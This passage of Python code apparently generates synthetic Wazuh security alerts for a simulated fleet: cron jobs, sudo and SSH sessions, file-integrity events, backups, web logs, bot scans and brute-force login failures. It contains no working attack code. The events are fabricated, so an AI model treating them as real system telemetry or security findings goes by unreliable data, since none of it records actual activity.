        loc = "/var/log/nginx/access.log" if h.web == "nginx" else "/var/log/apache2/access.log"
        return self._alert(t, h, rid, full_log=line, decoder={"name": "web-accesslog"}, data=data, location=loc,
                           previous_output=prev)

    def _b_dpkg(self, t: int, h: _Host, status: str, pkg: str, version: str) -> dict:
        rid = {"status installed": "2902", "status half-configured": "2904", "install": "2901"}[status]
        line = f"{_dpkg_ts(t // 1000)} {status} {pkg}:amd64 {version}"
        data = {"dpkg_status": status, "package": pkg, "arch": "amd64", "version": version}
        return self._alert(t, h, rid, full_log=line, decoder={"name": "dpkg-decoder"}, data=data,
                           location="/var/log/dpkg.log")

    def _b_ossec(self, t: int, h: _Host, rid: str, text: str) -> dict:
        if rid == "502":
            self.fired = {}
            return self._alert(t, h, rid, full_log="ossec: Manager started.", decoder={"name": "ossec"},
                               location="wazuh-monitord")
        if rid in ("503", "506"):
            word = "started" if rid == "503" else "stopped"
            extra = f"{h.name}->any"
            return self._alert(t, h, rid, full_log=f"ossec: Agent {word}: '{extra}'.",
                               decoder={"parent": "ossec", "name": "ossec"}, data={"extra_data": extra},
                               location="wazuh-agent" if rid == "503" else "wazuh-remoted")
        what = "File rotated (inode changed)" if rid == "591" else "File size reduced (inode remained)"
        return self._alert(t, h, rid, full_log=f"ossec: {what}: '{text}'.", decoder={"name": "ossec"},
                           location="wazuh-logcollector")

    def _b_rootcheck(self, t: int, h: _Host, title: str, path: str, msg: str) -> dict:
        return self._alert(t, h, "510", full_log=msg, decoder={"name": "rootcheck"},
                           data={"title": title, "file": path}, location="rootcheck")

    # ---------------------------------------------------------------- planning helpers
    def syslog(self, t: int, h: _Host, rid: str, prog: str, pid: Optional[int], msg: str, decoder: dict,
               data: Optional[dict], location: str = "/var/log/auth.log") -> None:
        self.at(t, self._b_syslog, h, rid, prog, pid, msg, decoder, data, location, None)

    def run(self, c: _Cur, a: _Actor, argv: Sequence[str], *, path: Optional[str] = None, cwd: Optional[str] = None,
            euser: Optional[str] = None, ppid: Optional[int] = None, gap: Tuple[float, float] = (0.2, 2.5)) -> int:
        """One execve by ``a`` at ``c.t`` (an 80792 alert when the host audits it); returns its pid."""
        h = a.h
        pid = h.next_pid(c.r)
        if euser is None:
            euid, egid = a.euid, a.egid
        else:
            euid = h.uid(euser)
            egid = a.egid
        if h.audited(euid, a.auid):
            self.at(c.t, self._b_cmd, h, tuple(argv), path, cwd or a.cwd, pid, a.pid if ppid is None else ppid,
                    a.uid, a.gid, euid, egid, a.auid, a.ses, a.tty)
        self.last_run = (h, pid, c.t)
        c.adv(*gap)
        return pid

    def who(self, a: _Actor, exe: str, pid: int, pexe: Optional[str] = None) -> tuple:
        return (a.uid, a.gid, a.euid, a.auid, pid, a.pid, exe, pexe or a.exe, a.cwd, a.cwd)

    def fim(self, c: _Cur, h: _Host, path: str, op: str, who: Optional[tuple] = None, **spec: Any) -> None:
        """A file change; reported according to the host's FIM configuration for ``path``."""
        mode = h.fim_mode(path)
        if mode is None:
            return
        base = c.t
        last = self.last_run
        if who is not None and last[0] is h and last[1] == who[4] and last[2] < c.t:
            base = min(c.t, last[2] + c.r.randrange(30, 700))  # right after the process that did it
        if mode == "scheduled":
            if self.episode_mode:
                t = self._next_scan(h, c.t) + c.r.randrange(500, 90_000)
                self.at(t, self._b_fim, h, path, op, mode, None, spec)
                return
            prev = h.pending_scan.get(path)
            if prev is not None and prev[1] == "add" and op == "delete":
                del h.pending_scan[path]
                return
            if prev is not None and prev[1] == "add":
                op, spec = "add", dict(prev[2], **spec)
            h.pending_scan[path] = (base, op, spec)
            return
        delay = c.r.randrange(250, 2200) if mode == "whodata" else c.r.randrange(120, 1500)
        self.at(base + delay, self._b_fim, h, path, op, mode, who if mode == "whodata" else None, spec)

    def _next_scan(self, h: _Host, t: int) -> int:
        base = self.t0 + h.scan_offset
        k = max(0, (t - base) // (12 * HOUR_MS) + 1)
        return base + k * 12 * HOUR_MS

    def ssh_login(self, c: _Cur, h: _Host, user: str, ip: str, *, method: str = "publickey",
                  user_session: bool = False, history: bool = True, command: Optional[str] = None) -> _Actor:
        """sshd accepts ``user``: 5715 (or 10100 the first time), PAM session, then the login
        shell, or ``bash -c command`` for a remote command."""
        r = c.r
        sshd_pid = h.next_pid(r)
        port = r.randrange(32768, 61000)
        self.at(c.t, self._b_ssh_accept, h, user, ip, port, sshd_pid, method,
                self.keyfp.get(user) or self._fingerprint(r))
        c.adv(0.01, 0.06)
        self.syslog(c.t, h, "5501", "sshd", sshd_pid,
                    f"pam_unix(sshd:session): session opened for user {user} by (uid=0)", _DEC_PAM,
                    {"dstuser": user, "uid": "0"})
        if user_session:
            c.adv(0.01, 0.1)
            self.syslog(c.t, h, "5501", "systemd", h.next_pid(r),
                        f"pam_unix(systemd-user:session): session opened for user {user} by (uid=0)", _DEC_PAM,
                        {"dstuser": user, "uid": "0"})
        c.adv(0.05, 0.5)
        a = _Actor(h, user, auid=h.uid(user), ses=h.next_ses(), tty=f"pts/{r.randrange(0, 5)}", pid=sshd_pid,
                   ppid=sshd_pid)
        if command is None:
            shell = self.run(c, a, ["-bash"], ppid=sshd_pid, gap=(0.4, 3))
        else:
            shell = self.run(c, a, ["bash", "-c", command], ppid=sshd_pid, gap=(0.02, 0.2))
        a.pid = shell
        a.ppid = sshd_pid if history else -sshd_pid
        return a

    def ssh_logout(self, c: _Cur, a: _Actor) -> None:
        h = a.h
        if a.ppid > 0:
            path = f"{h.home(a.user)}/.bash_history"
            self.fim(c, h, path, "modify", self.who(a, "/usr/bin/bash", a.pid, "/usr/sbin/sshd"))
        c.adv(0.05, 0.4)
        self.syslog(c.t, h, "5502", "sshd", abs(a.ppid), f"pam_unix(sshd:session): session closed for user {a.user}",
                    _DEC_PAM, {"dstuser": a.user})

    def sudo_open(self, c: _Cur, a: _Actor, argv: Sequence[str], *, target: str = "root",
                  command: Optional[str] = None) -> Tuple[_Actor, int]:
        """``sudo argv`` by ``a``: the sudo execve, sudo's log line (5402/5403/5407) and its PAM
        session. Returns the target-user actor and sudo's pid; close with :meth:`sudo_close`."""
        h = a.h
        sargv = ["sudo"] + (["-u", target] if target != "root" else []) + list(argv)
        sudo_pid = self.run(c, a, sargv, euser="root", gap=(0.005, 0.03))
        if command is None:
            command = " ".join([_sudo_path(argv[0])] + list(argv[1:]))
        self.at(c.t, self._b_sudo, h, a.user, a.tty, a.cwd, target, command)
        c.adv(0.003, 0.02)
        self.syslog(c.t, h, "5501", "sudo", None,
                    f"pam_unix(sudo:session): session opened for user {target} by {a.user}(uid=0)", _DEC_PAM,
                    {"srcuser": a.user, "dstuser": target, "uid": "0"})
        c.adv(0.003, 0.03)
        root = _Actor(h, target, auid=a.auid, ses=a.ses, tty=a.tty, cwd=a.cwd, pid=sudo_pid, exe="/usr/bin/sudo",
                      ppid=a.pid)
        return root, sudo_pid

    def sudo_close(self, c: _Cur, a: _Actor, target: str = "root") -> None:
        self.syslog(c.t, a.h, "5502", "sudo", None, f"pam_unix(sudo:session): session closed for user {target}",
                    _DEC_PAM, {"dstuser": target})
        c.adv(0.2, 3)

    def sudo(self, c: _Cur, a: _Actor, argv: Sequence[str], *, target: str = "root",
             children: Sequence[Sequence[str]] = (), dur: Tuple[float, float] = (0.2, 4)) -> None:
        """A one-shot ``sudo cmd``: the command (and any children it spawns) then the session close."""
        root, _ = self.sudo_open(c, a, argv, target=target)
        pid = self.run(c, root, argv, gap=(0.02, 0.3))
        for ch in children:
            self.run(c, root, ch, ppid=pid, gap=(0.02, 0.5))
        c.adv(*dur)
        self.sudo_close(c, a, target)

    def root_shell_open(self, c: _Cur, a: _Actor) -> _Actor:
        """``sudo -i``: returns the root login shell actor."""
        root, sudo_pid = self.sudo_open(c, a, ["-i"], command="/bin/bash")
        root.cwd = "/root"
        shell = self.run(c, root, ["-bash"], cwd="/root", gap=(0.3, 2))
        root.pid = shell
        root.exe = "/usr/bin/bash"
        root.ppid = sudo_pid
        return root

    def root_shell_close(self, c: _Cur, a: _Actor, root: _Actor) -> None:
        self.fim(c, a.h, "/root/.bash_history", "modify", self.who(root, "/usr/bin/bash", root.pid, "/usr/bin/sudo"))
        c.adv(0.05, 0.3)
        self.sudo_close(c, a)

    def edit(self, c: _Cur, a: _Actor, path: str, *, diff: Optional[str] = None, minutes: Tuple[float, float] = (0.3, 4)) -> None:
        """``vim path``: swap file, vim's 4913 probe, the write (new inode) and the swap removal."""
        h = a.h
        pid = self.run(c, a, ["vim", path], gap=(0.2, 1.0))
        who = self.who(a, "/usr/bin/vim.basic", pid)
        d, base = path.rsplit("/", 1)
        swp = f"{d}/.{base}.swp"
        self.fim(c, h, swp, "add", who, owner=a.user, size=12288)
        c.adv(minutes[0] * 60, minutes[1] * 60)
        if c.r.random() < 0.5:
            self.fim(c, h, f"{d}/4913", "add", who, owner=a.user, size=0)
            self.fim(c, h, f"{d}/4913", "delete", who)
        self.fim(c, h, path, "modify", who, new_inode=True, diff=diff)
        c.adv(0.3, 8)
        self.fim(c, h, swp, "delete", who)

    def cron_actor(self, c: _Cur, h: _Host, user: str = "root") -> _Actor:
        """A job started by cron: pam_loginuid gives it the user as login uid, in a new session."""
        return _Actor(h, user, auid=h.uid(user), ses=h.next_ses(), tty="(none)", cwd=h.home(user),
                      pid=h.next_pid(c.r), exe="/usr/sbin/cron")

    def timer_actor(self, c: _Cur, h: _Host, user: str = "root") -> _Actor:
        """A service or timer started by systemd: no login uid."""
        return _Actor(h, user, auid=None, ses=None, tty="(none)", cwd="/", pid=1, exe="/usr/lib/systemd/systemd")

    def web_requests(self, h: _Host, reqs: Sequence[Tuple[int, str, str, str, int, int, str, str]]) -> None:
        """Access-log lines -> 31101 / 31106 / 31120 / 31122 alerts, with 31151 for bursts of
        4xx from one address (14 within 90 s)."""
        fours: Dict[str, list] = {}
        for t, ip, method, url, status, size, ref, ua in reqs:
            rid = _web_rule(method, url, status, ua)
            if rid is None:
                continue
            line = _web_line(t, ip, method, url, status, size, ref, ua)
            data = {"protocol": method, "srcip": ip, "id": str(status), "url": url}
            if rid == "31101":
                fours.setdefault(ip, []).append((t, line, data))
            else:
                self.at(t, self._b_web, h, rid, line, data, None)
        for items in fours.values():
            items.sort(key=lambda x: x[0])
            prevs = _frequency([(t, line) for t, line, _ in items], 14, 90_000)
            for (t, line, data), prev in zip(items, prevs):
                self.at(t, self._b_web, h, "31151" if prev is not None else "31101", line, data, prev)

    def ssh_attempts(self, h: _Host, attempts: Sequence[Tuple[int, str, str, str, int, int]]) -> None:
        """sshd failures from the internet: (t, kind, user, ip, port, pid) with kind in invalid,
        failed_invalid, failed, maxauth, noident; 5712/5763 fire on 8 within 120 s from one address."""
        by_ip: Dict[Tuple[str, str], list] = {}
        for t, kind, user, ip, port, pid in attempts:
            if kind == "invalid":
                msg, rid, data = (f"Invalid user {user} from {ip} port {port}", "5710",
                                  {"srcip": ip, "srcport": str(port), "srcuser": user})
            elif kind == "failed_invalid":
                msg, rid, data = (f"Failed password for invalid user {user} from {ip} port {port} ssh2", "5710",
                                  {"srcip": ip, "srcuser": user})
            elif kind == "failed":
                msg, rid, data = (f"Failed password for {user} from {ip} port {port} ssh2", "5760",
                                  {"srcip": ip, "srcport": str(port), "dstuser": user})
            elif kind == "maxauth":
                msg, rid, data = (f"error: maximum authentication attempts exceeded for {user} from {ip} port {port} "
                                  f"ssh2 [preauth]", "5758", {"srcip": ip, "srcport": str(port), "dstuser": user})
            else:
                msg, rid, data = (f"Did not receive identification string from {ip} port {port}", "5706",
                                  {"srcip": ip, "srcport": str(port)})
            if rid in ("5710", "5760"):
                by_ip.setdefault((ip, rid), []).append((t, pid, msg, data))
            else:
                self.syslog(t, h, rid, "sshd", pid, msg, _DEC_SSHD, data)
        for (ip, rid), items in by_ip.items():
            items.sort(key=lambda x: x[0])
            lines = [(t, self.syslog_line(t, h, "sshd", pid, msg)) for t, pid, msg, _ in items]
            prevs = _frequency(lines, 8, 120_000, 60_000)
            comp = "5712" if rid == "5710" else "5763"
            for (t, pid, msg, data), prev in zip(items, prevs):
                self.at(t, self._b_syslog, h, comp if prev is not None else rid, "sshd", pid, msg, _DEC_SSHD, data,
                        "/var/log/auth.log", prev)

    def dovecot_failures(self, h: _Host, attempts: Sequence[Tuple[int, str, str, int]]) -> None:
        by_ip: Dict[str, list] = {}
        for t, user, ip, n in attempts:
            sess = "".join(chr(65 + (t >> k) % 26) for k in range(0, 48, 3))
            msg = (f"imap-login: Disconnected (auth failed, {n} attempts in {2 + n * 2} secs): user=<{user}>, "
                   f"method=PLAIN, rip={ip}, lip={h.ip}, TLS, session=<{sess}>")
            by_ip.setdefault(ip, []).append((t, msg, {"srcip": ip, "srcuser": f"<{user}>", "dstip": h.ip}))
        for items in by_ip.values():
            items.sort(key=lambda x: x[0])
            prevs = _frequency([(t, self.syslog_line(t, h, "dovecot", None, m)) for t, m, _ in items], 8, 240_000)
            for (t, msg, data), prev in zip(items, prevs):
                self.at(t, self._b_syslog, h, "9751" if prev is not None else "9705", "dovecot", None, msg,
                        {"parent": "dovecot", "name": "dovecot"}, data, "/var/log/mail.log", prev)


    # ---------------------------------------------------------------- benign activity, one day
    def n(self, r: random.Random, base: float, weekend: bool = False, weekend_factor: float = 1.0) -> int:
        """How many times a daily activity with mean ``base`` (at scale 1) happens today."""
        return _poisson(r, base * self.scale * (weekend_factor if weekend else 1.0))

    def office_t(self, r: random.Random, day_t: int, weekend: bool = False) -> int:
        hour = r.choices(_HOURS, cum_weights=_WEEKEND_CUM if weekend else _OFFICE_CUM)[0]
        return day_t + hour * HOUR_MS + r.randrange(HOUR_MS)

    def plan_day(self, d: int) -> None:
        """Schedule one day's benign activity of the whole fleet (some may spill past midnight)."""
        self.sink = []
        day_t = self.t0 + d * DAY_MS
        wd = (self.start + timedelta(days=d)).weekday()
        weekend = wd >= 5
        for h in self.hosts:
            r = random.Random(f"mimizuku-synth:{self.seed}:{d}:{h.name}")
            if h.role != "workstation":
                self._periodic(h, d, day_t, wd, r)
            getattr(self, "_role_" + h.role)(h, d, day_t, weekend, r)
        r = random.Random(f"mimizuku-synth:{self.seed}:{d}:fleet")
        self._admins(d, day_t, weekend, r)
        self._deploys(d, day_t, weekend, r)
        if wd == self.cfg.patch_weekday:
            self._patch_day(d, day_t, r)
        self._unattended(d, day_t, r)
        if d == self.onboard_day:
            self._onboarding(d, day_t, r)
        self._oddities(d, day_t, weekend, r)
        self._flush_scans(day_t)
        self._bucket(self.sink, None)
        self.sink = []

    def _keep(self, r: random.Random) -> bool:
        return self.periodic >= 1.0 or r.random() < self.periodic

    def _periodic(self, h: _Host, d: int, day_t: int, wd: int, r: random.Random) -> None:
        """cron, systemd timers, log rotation, rootcheck: the same things at the same times."""
        c = _Cur(day_t, r)
        for k in range(144):  # sysstat: 5-55/10 * * * * root debian-sa1 1 1
            if not self._keep(r):
                continue
            c.t = day_t + (5 + 10 * k) * MIN_MS + r.randrange(30, 900)
            a = self.cron_actor(c, h)
            sh = self.run(c, a, ["/bin/sh", "-c", "command -v debian-sa1 > /dev/null && debian-sa1 1 1"],
                          gap=(0.002, 0.02))
            sa = self.run(c, a, ["debian-sa1", "1", "1"], path="/usr/lib/sysstat/debian-sa1", ppid=sh,
                          gap=(0.003, 0.03))
            self.run(c, a, ["/usr/lib/sysstat/sadc", "-F", "-L", "-S", "DISK", "1", "1", "/var/log/sysstat"],
                     ppid=sa)
        for hr in range(24):  # 17 * * * * root cd / && run-parts --report /etc/cron.hourly
            if not self._keep(r):
                continue
            c.t = day_t + hr * HOUR_MS + 17 * MIN_MS + r.randrange(20, 700)
            a = self.cron_actor(c, h)
            sh = self.run(c, a, ["/bin/sh", "-c", "   cd / && run-parts --report /etc/cron.hourly"], gap=(0.002, 0.02))
            self.run(c, a, ["run-parts", "--report", "/etc/cron.hourly"], ppid=sh)
        if self._keep(r):  # 25 6 * * * root test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )
            c.t = day_t + 6 * HOUR_MS + 25 * MIN_MS + r.randrange(20, 900)
            self._cron_daily(c, h, self.cron_actor(c, h))
        if self._keep(r):  # logrotate.timer, daily at midnight, then logcollector sees the rotations
            c.t = day_t + r.randrange(200, 40_000)
            a = self.timer_actor(c, h)
            lr = self.run(c, a, ["/usr/sbin/logrotate", "/etc/logrotate.conf"], gap=(0.1, 1.5))
            sh = self.run(c, a, ["/bin/sh", "-c", "\n\t\t/usr/lib/rsyslog/rsyslog-rotate\n\t", "logrotate_script",
                                 "/var/log/syslog"], ppid=lr, gap=(0.002, 0.02))
            rr = self.run(c, a, ["/usr/lib/rsyslog/rsyslog-rotate"], path="/usr/lib/rsyslog/rsyslog-rotate", ppid=sh,
                          gap=(0.002, 0.02))
            self.run(c, a, ["systemctl", "kill", "-s", "HUP", "rsyslog.service"], ppid=rr, gap=(0.05, 0.5))
            rotated = ["/var/log/syslog"]
            if h.web == "nginx":
                sh = self.run(c, a, ["/bin/sh", "-c", "\n\t\tinvoke-rc.d nginx rotate >/dev/null 2>&1\n\t",
                                     "logrotate_script", "/var/log/nginx/*.log"], ppid=lr, gap=(0.002, 0.02))
                self.run(c, a, ["invoke-rc.d", "nginx", "rotate"], path="/usr/sbin/invoke-rc.d", ppid=sh)
                rotated += ["/var/log/nginx/access.log", "/var/log/nginx/error.log"]
            elif h.web == "apache":
                sh = self.run(c, a, ["/bin/sh", "-c", "\n\t\tif invoke-rc.d apache2 status > /dev/null 2>&1; then "
                                     "\\\n\t\t    invoke-rc.d apache2 reload > /dev/null 2>&1; \\\n\t\tfi;\n\t",
                                     "logrotate_script", "/var/log/apache2/*.log"], ppid=lr, gap=(0.002, 0.02))
                self.run(c, a, ["invoke-rc.d", "apache2", "reload"], path="/usr/sbin/invoke-rc.d", ppid=sh)
                rotated += ["/var/log/apache2/access.log", "/var/log/apache2/error.log"]
            if wd == 6:
                rotated += ["/var/log/auth.log", "/var/log/kern.log"] + (["/var/log/mail.log"] if h.role == "mail" else [])
            for path in rotated:
                self.at(c.t + r.randrange(1000, 9000), self._b_ossec, h, "591", path)
        for _ in range(self.n(r, 1.2 if h.role == "ci" else 0.08)):  # auditd rotates audit.log by size
            self.at(day_t + r.randrange(DAY_MS), self._b_ossec, h, "591", "/var/log/audit/audit.log")
        for hh in (int(r.uniform(6, 7.9) * HOUR_MS), int(r.uniform(18, 19.9) * HOUR_MS)):  # apt-daily.timer
            if not self._keep(r):
                continue
            c.t = day_t + hh
            a = self.timer_actor(c, h)
            dl = self.run(c, a, ["/usr/lib/apt/apt.systemd.daily", "update"], path="/usr/lib/apt/apt.systemd.daily")
            self.run(c, a, ["apt-config", "shell", "StampDir", "Dir::State::Periodic"], ppid=dl, gap=(0.01, 0.1))
            self.run(c, a, ["apt-get", "-qq", "-y", "update"], ppid=dl, gap=(2, 9))
        for hh in (int(r.uniform(0.5, 11.5) * HOUR_MS), int(r.uniform(12.5, 23.5) * HOUR_MS)):  # motd-news.timer
            if not self._keep(r):
                continue
            c.t = day_t + hh
            a = self.timer_actor(c, h)
            mn = self.run(c, a, ["/etc/update-motd.d/50-motd-news", "--force"], path="/etc/update-motd.d/50-motd-news",
                          gap=(0.01, 0.1))
            self.run(c, a, ["curl", "--connect-timeout", "3", "--max-time", "30", "-A", "curl/7.68.0 Ubuntu/20.04",
                            "-o-", "https://motd.ubuntu.com"], ppid=mn)
        if h.role == "ci":  # docker-prune.timer
            if self._keep(r):
                c.t = day_t + 3 * HOUR_MS + r.randrange(5 * MIN_MS)
                self.run(c, self.timer_actor(c, h), ["docker", "system", "prune", "-af", "--filter", "until=72h"])
        if h.role == "web":
            for hh in (int(r.uniform(0, 12) * HOUR_MS), int(r.uniform(12, 24) * HOUR_MS)):  # certbot.timer
                if self._keep(r):
                    c.t = day_t + hh
                    self.run(c, self.timer_actor(c, h), ["/usr/bin/certbot", "-q", "renew"], path="/usr/bin/certbot")
            for k in range(96):  # */15 * * * * deploy php bin/console app:queue:process
                if not self._keep(r):
                    continue
                c.t = day_t + k * 15 * MIN_MS + r.randrange(20, 900)
                a = self.cron_actor(c, h, "deploy")
                sh = self.run(c, a, ["/bin/sh", "-c", "cd /var/www/app/current && php bin/console app:queue:process "
                                     "--time-limit=840 >> /var/www/app/shared/var/log/queue.log 2>&1"], gap=(0.002, 0.02))
                self.run(c, a, ["php", "bin/console", "app:queue:process", "--time-limit=840"],
                         cwd="/var/www/app/current", ppid=sh)
        if h.role == "db" and self._keep(r):  # 30 1 * * * root /usr/local/bin/pg-backup.sh
            c.t = day_t + HOUR_MS + 30 * MIN_MS + r.randrange(10, 900)
            self._db_backup(c, h, d)
        if h.role == "mail" and self._keep(r):
            c.t = day_t + 4 * HOUR_MS + r.randrange(HOUR_MS)
            a = self.cron_actor(c, h)
            sh = self.run(c, a, ["/bin/sh", "-c", "test -x /usr/bin/sa-update && /usr/bin/sa-update --gpghomedir "
                                 "/var/lib/spamassassin/sa-update-keys"], gap=(0.002, 0.02))
            self.run(c, a, ["sa-update", "--gpghomedir", "/var/lib/spamassassin/sa-update-keys"],
                     path="/usr/bin/sa-update", ppid=sh)
        self._rootcheck(h, day_t, r, (day_t, day_t + DAY_MS))

    def _cron_daily(self, c: _Cur, h: _Host, a: _Actor) -> None:
        sh = self.run(c, a, ["/bin/sh", "-c", "test -x /usr/sbin/anacron || ( cd / && run-parts --report "
                             "/etc/cron.daily )"], gap=(0.002, 0.02))
        rp = self.run(c, a, ["run-parts", "--report", "/etc/cron.daily"], ppid=sh, gap=(0.01, 0.1))
        for script, inner in (
                ("apport", [["/usr/bin/systemctl", "is-enabled", "apport.service"]]),
                ("apt-compat", [["/usr/bin/systemctl", "is-system-running"]]),
                ("bsdmainutils", []),
                ("dpkg", [["/usr/bin/systemctl", "is-system-running"]]),
                ("logrotate", [["/usr/bin/systemctl", "is-system-running"]]),
                ("man-db", [["/usr/bin/systemctl", "is-system-running"]]),
                ("popularity-contest", []),
                ("update-notifier-common", [["/usr/lib/update-notifier/package-data-downloader"]])):
            sp = self.run(c, a, [f"/etc/cron.daily/{script}"], path=f"/etc/cron.daily/{script}", ppid=rp,
                          gap=(0.01, 0.3))
            for argv in inner:
                self.run(c, a, argv, ppid=sp, gap=(0.01, 0.2))

    def _rootcheck(self, h: _Host, day_t: int, r: random.Random, window: Tuple[int, int]) -> None:
        findings = _ROOTCHECK_FP.get(h.role, ())
        if not findings:
            return
        for k in range(2):
            t = day_t + h.scan_offset + k * 12 * HOUR_MS + 41 * MIN_MS
            if window[0] <= t < window[1] and self._keep(r):
                for i, (title, path, msg) in enumerate(findings):
                    self.at(t + i * 1500 + r.randrange(900), self._b_rootcheck, h, title, path, msg)

    def _flush_scans(self, day_t: int) -> None:
        """Scheduled FIM: changes queued on a host are reported at its next 12-hourly scan."""
        for h in self.hosts:
            if not h.pending_scan:
                continue
            for k in range(2):
                ts = day_t + h.scan_offset + k * 12 * HOUR_MS
                due = sorted((v[0], p) for p, v in h.pending_scan.items() if v[0] < ts)
                step = ts + 20_000 + _stable_int(h.name, 60_000)
                for _, path in due:
                    _, op, spec = h.pending_scan.pop(path)
                    step += 40 + _stable_int(path, 700)
                    self.at(step, self._b_fim, h, path, op, "scheduled", None, spec)

    # -- roles
    def _role_manager(self, h: _Host, d: int, day_t: int, weekend: bool, r: random.Random) -> None:
        c = _Cur(day_t, r)
        for _ in range(self.n(r, 12)):  # the vulnerability detector / cluster checks shelling out
            c.t = day_t + r.randrange(DAY_MS)
            self.run(c, self.timer_actor(c, h, "root"), ["/var/ossec/bin/wazuh-control", "status"],
                     path="/var/ossec/bin/wazuh-control")

    def _role_web(self, h: _Host, d: int, day_t: int, weekend: bool, r: random.Random) -> None:
        reqs: list = []
        site = "https://shop.example.com"
        for _ in range(self.n(r, 700, weekend, 0.85)):
            t = day_t + r.randrange(DAY_MS)
            x = r.random()
            if x < 0.6:
                ip = r.choice(self.botnet)
                url = r.choice(_BOT_PATHS)
                status = 403 if url.startswith(("/.git", "/server-status", "/.ht")) else 404
                reqs.append((t, ip, r.choice(("GET", "GET", "GET", "POST", "HEAD")), url, status, r.randrange(150, 560),
                             "-", r.choice(_BOT_UAS)))
            elif x < 0.88:
                ip = _public_ip(r)
                url = r.choice(_USER_404)
                reqs.append((t, ip, "GET", url, 404, r.randrange(900, 5200), site + r.choice(("/", "/blog/", "/shop/")),
                             r.choice(_BROWSER_UAS)))
            else:
                ip = _public_ip(r)
                url = f"/api/v1/orders/{r.randrange(10000, 99999)}"
                reqs.append((t, ip, r.choice(("GET", "PUT")), url, r.choice((401, 403, 401)), 61, "-",
                             r.choice(("okhttp/4.12.0", "ShopApp/3.2.1 (iPhone; iOS 17.1)", "python-requests/2.31.0"))))
        for _ in range(self.n(r, 6)):  # small scans by bots: a burst of probes from one address
            ip = r.choice(self.botnet)
            t = day_t + r.randrange(DAY_MS - 10 * MIN_MS)
            ua = r.choice(_BOT_UAS)
            for url in r.sample(_BOT_PATHS, r.randrange(10, min(40, len(_BOT_PATHS)))):
                t += r.randrange(300, 5000)
                reqs.append((t, ip, "GET", url, 404, r.randrange(150, 560), "-", ua))
        for _ in range(self.n(r, 3)):
            t = self.office_t(r, day_t, weekend)
            reqs.append((t, _public_ip(r), "POST", r.choice(("/api/v1/cart/checkout", "/api/v1/payments/confirm",
                                                            "/account/login")), r.choice((500, 500, 502)),
                         r.randrange(180, 600), site + "/cart/", r.choice(_BROWSER_UAS)))
        self.web_requests(h, reqs)
        exe = "/usr/sbin/php-fpm7.4" if h.web == "nginx" else "/usr/sbin/apache2"
        master = 800 + _stable_int(h.name + exe, 400)
        c = _Cur(day_t, r)
        for _ in range(self.n(r, 45, weekend, 0.35)):  # user uploads: the app stores and thumbnails them
            c.t = self.office_t(r, day_t, weekend)
            worker = master + 1 + r.randrange(60)
            www = _Actor(h, "www-data", cwd="/var/www/app/current/public", pid=worker, exe=exe, ppid=master)
            dt = self.start + timedelta(days=d)
            name = _hexs(r, 16)
            up = f"/var/www/app/shared/uploads/{dt.year}/{dt.month:02d}/{name}.jpg"
            self.fim(c, h, up, "add", (33, 33, 33, None, worker, master, exe, exe, "/", "/"), owner="www-data",
                     size=r.randrange(40_000, 2_400_000))
            c.adv(0.05, 0.4)
            thumb = up[:-4] + "_300x300.jpg"
            sh = self.run(c, www, ["sh", "-c", f"convert '{up}' -resize 300x300 -strip '{thumb}'"], gap=(0.002, 0.02))
            cv = self.run(c, www, ["convert", up, "-resize", "300x300", "-strip", thumb], ppid=sh, gap=(0.1, 0.6))
            self.fim(c, h, thumb, "add", (33, 33, 33, None, cv, sh, "/usr/bin/convert-im6.q16", "/usr/bin/dash",
                                          "/var/www/app/current/public", "/var/www/app/current/public"),
                     owner="www-data", size=r.randrange(9_000, 60_000))
        for _ in range(self.n(r, 70, weekend, 0.4)):  # order confirmation mails
            c.t = self.office_t(r, day_t, weekend)
            worker = master + 1 + r.randrange(60)
            www = _Actor(h, "www-data", cwd="/var/www/app/current/public", pid=worker, exe=exe, ppid=master)
            sh = self.run(c, www, ["sh", "-c", "/usr/sbin/sendmail -t -i"], gap=(0.002, 0.02))
            self.run(c, www, ["/usr/sbin/sendmail", "-t", "-i"], ppid=sh)

    def _role_db(self, h: _Host, d: int, day_t: int, weekend: bool, r: random.Random) -> None:
        return None  # backups are periodic; admin work is planned fleet-wide

    def _db_backup(self, c: _Cur, h: _Host, d: int) -> None:
        a = self.cron_actor(c, h)
        stamp = (self.start + timedelta(days=d)).isoformat()
        sh = self.run(c, a, ["/bin/sh", "-c", "/usr/local/bin/pg-backup.sh >> /var/log/pg-backup.log 2>&1"],
                      gap=(0.002, 0.02))
        bk = self.run(c, a, ["/usr/local/bin/pg-backup.sh"], path="/usr/local/bin/pg-backup.sh", ppid=sh,
                      gap=(0.01, 0.05))
        for argv in (["date", "+%F"], ["mkdir", "-p", f"/var/backups/postgres/{stamp}"],
                     ["runuser", "-u", "postgres", "--", "pg_dump", "-Fc", "appdb", "-f",
                      f"/var/backups/postgres/{stamp}/appdb.dump"],
                     ["find", "/var/backups/postgres", "-mindepth", "1", "-maxdepth", "1", "-mtime", "+7", "-exec",
                      "rm", "-rf", "{}", "+"]):
            self.run(c, a, argv, ppid=bk, gap=(0.05, 40) if argv[0] == "runuser" else (0.01, 0.3))
        bastions = self.by_role.get("bastion")
        if not bastions:
            return
        rs = self.run(c, a, ["rsync", "-a", "--delete", "/var/backups/postgres/",
                             f"svc-backup@{bastions[0].ip}:/srv/backups/{h.name}/"], ppid=bk, gap=(0.01, 0.05))
        self.run(c, a, ["ssh", "-l", "svc-backup", bastions[0].ip, "rsync", "--server", "-logDtpre.iLsfxCIvu",
                        "--delete", ".", f"/srv/backups/{h.name}/"], ppid=rs, gap=(0.2, 0.6))
        b = bastions[0]
        sv = self.ssh_login(c, b, "svc-backup", h.ip, history=False,
                            command=f"rsync --server -logDtpre.iLsfxCIvu --delete . /srv/backups/{h.name}/")
        self.run(c, sv, ["rsync", "--server", "-logDtpre.iLsfxCIvu", "--delete", ".", f"/srv/backups/{h.name}/"],
                 gap=(5, 60))
        self.ssh_logout(c, sv)

    def _role_bastion(self, h: _Host, d: int, day_t: int, weekend: bool, r: random.Random) -> None:
        if h.exposed_ssh:
            self._internet_ssh(h, day_t, r, 170)

    def _role_mail(self, h: _Host, d: int, day_t: int, weekend: bool, r: random.Random) -> None:
        self._internet_ssh(h, day_t, r, 60)
        dec = {"parent": "dovecot", "name": "dovecot"}
        c = _Cur(day_t, r)
        for u in MAIL_USERS:
            logins = [(self.office_t(r, day_t, weekend), self.office_ip[u]) for _ in range(self.n(r, 16, weekend, 0.1))]
            logins += [(day_t + r.randrange(18 * HOUR_MS, 23 * HOUR_MS), self.home_ip[u])
                       for _ in range(self.n(r, 1.5, weekend, 2.0))]
